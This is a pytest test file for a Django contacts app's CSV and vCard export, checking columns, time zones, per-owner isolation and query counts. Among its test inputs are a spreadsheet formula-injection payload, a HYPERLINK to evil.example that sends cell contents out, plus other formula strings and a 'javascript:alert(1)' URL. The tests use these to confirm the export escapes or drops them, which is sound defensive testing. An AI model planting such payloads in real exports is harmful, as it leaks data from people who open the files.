from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from vobject.base import getLogicalLines, parseLine

from coffeechat.core.csvsafe import BOM
from coffeechat.services.contacts import ContactDetails, add_contact
from coffeechat.services.exports import CSV_COLUMNS, write_csv, write_vcard
from tests.services.prefs import set_preferences

NOW = datetime(2030, 1, 9, 12, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("https://evil.example/?steal="&A1,"Click me")'


@pytest.fixture
def frozen(time_machine):
    time_machine.move_to(NOW, tick=False)


def csv_rows(owner) -> list[list[str]]:
    out = io.StringIO()
    write_csv(owner, out)
    text = out.getvalue()
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def vcard_values(owner, name: str) -> list[str]:
    out = io.StringIO()
    write_vcard(owner, out)
    found = []
    for line, number in getLogicalLines(io.StringIO(out.getvalue())):
        prop, _params, value, _group = parseLine(line, number)
        if prop == name:
            found.append(value)
    return found


def test_a_contact_becomes_one_csv_row_in_the_owners_time(alice, frozen):
    set_preferences(alice, time_zone="Europe/Berlin")
    add_contact(
        alice,
        ContactDetails(
            name="Ada Lovelace",
            role="Analyst",
            organisation="Babbage Ltd",
            emails=("ada@example.org", "ada@home.example"),
            phones=("+44 20 7946 0000",),
            linkedin_url="https://www.linkedin.com/in/ada",
            websites=("https://ada.example", "https://example.org/profile?id=1,2"),
            location="London",
            time_zone="Europe/London",
            tags=("math", "engines"),
            how_we_met="A lecture",
        ),
    )
    header, row = csv_rows(alice)
    assert header == list(CSV_COLUMNS)
    assert dict(zip(header, row, strict=True)) == {
        "name": "Ada Lovelace",
        "role": "Analyst",
        "organisation": "Babbage Ltd",
        "emails": "ada@example.org; ada@home.example",
        "phones": "'+44 20 7946 0000",
        "LinkedIn URL": "https://www.linkedin.com/in/ada",
        "websites": "https://ada.example; https://example.org/profile?id=1,2",
        "location": "London",
        "time zone": "Europe/London",
        "tags": "math; engines",
        "how we met": "A lecture",
        "created": "2030-01-09 13:00",
    }


def test_a_formula_in_a_name_comes_out_as_text(alice):
    add_contact(alice, ContactDetails(name=HOSTILE, role="@SUM(1+1)", how_we_met="-2+3"))
    _, row = csv_rows(alice)
    assert row[0] == "'" + HOSTILE
    assert row[1] == "'@SUM(1+1)"
    assert row[CSV_COLUMNS.index("how we met")] == "'-2+3"


def test_exports_hold_only_the_owners_contacts(alice, bob):
    add_contact(alice, ContactDetails(name="Alice's friend"))
    add_contact(bob, ContactDetails(name="Bob's friend"))
    assert [row[0] for row in csv_rows(bob)[1:]] == ["Bob's friend"]
    assert vcard_values(bob, "FN") == ["Bob's friend"]


def test_a_vcard_carries_the_contact_with_its_code(alice):
    contact = add_contact(
        alice,
        ContactDetails(
            name="Grace Hopper",
            organisation="Navy, US",
            emails=("grace@example.org",),
            research_notes="Ask about COBOL; and nanoseconds.",
        ),
    )
    assert vcard_values(alice, "UID") == [f"urn:uuid:{contact.code}"]
    assert vcard_values(alice, "FN") == ["Grace Hopper"]
    assert vcard_values(alice, "ORG") == ["Navy\\, US"]
    assert vcard_values(alice, "EMAIL") == ["grace@example.org"]
    note = re.sub(r"\\(.)", r"\1", vcard_values(alice, "NOTE")[0])
    assert note == "Ask about COBOL; and nanoseconds."


def test_an_empty_home_exports_just_a_header_and_no_cards(alice):
    assert csv_rows(alice) == [list(CSV_COLUMNS)]
    out = io.StringIO()
    assert write_vcard(alice, out) == {"contacts": 0}
    assert out.getvalue() == ""


@pytest.mark.parametrize("write", [write_csv, write_vcard])
def test_the_number_of_queries_does_not_grow_with_the_contacts(alice, write):
    def queries() -> int:
        with CaptureQueriesContext(connection) as captured:
            write(alice, io.StringIO())
        return len(captured.captured_queries)

    for index in range(2):
        add_contact(alice, ContactDetails(name=f"P{index}", organisation=f"Org {index}"))
    few = queries()
    for index in range(2, 30):
        add_contact(alice, ContactDetails(name=f"P{index}", organisation=f"Org {index}"))
    assert queries() == few


def test_a_vcard_carries_only_a_web_address_as_the_profile(alice):
    contact = add_contact(alice, ContactDetails(name="Grace Hopper"))
    type(contact).objects.filter(pk=contact.pk).update(linkedin_url="javascript:alert(1)")
    assert vcard_values(alice, "URL") == []
    type(contact).objects.filter(pk=contact.pk).update(linkedin_url="https://linkedin.com/in/g")
    assert vcard_values(alice, "URL") == ["https://linkedin.com/in/g"]
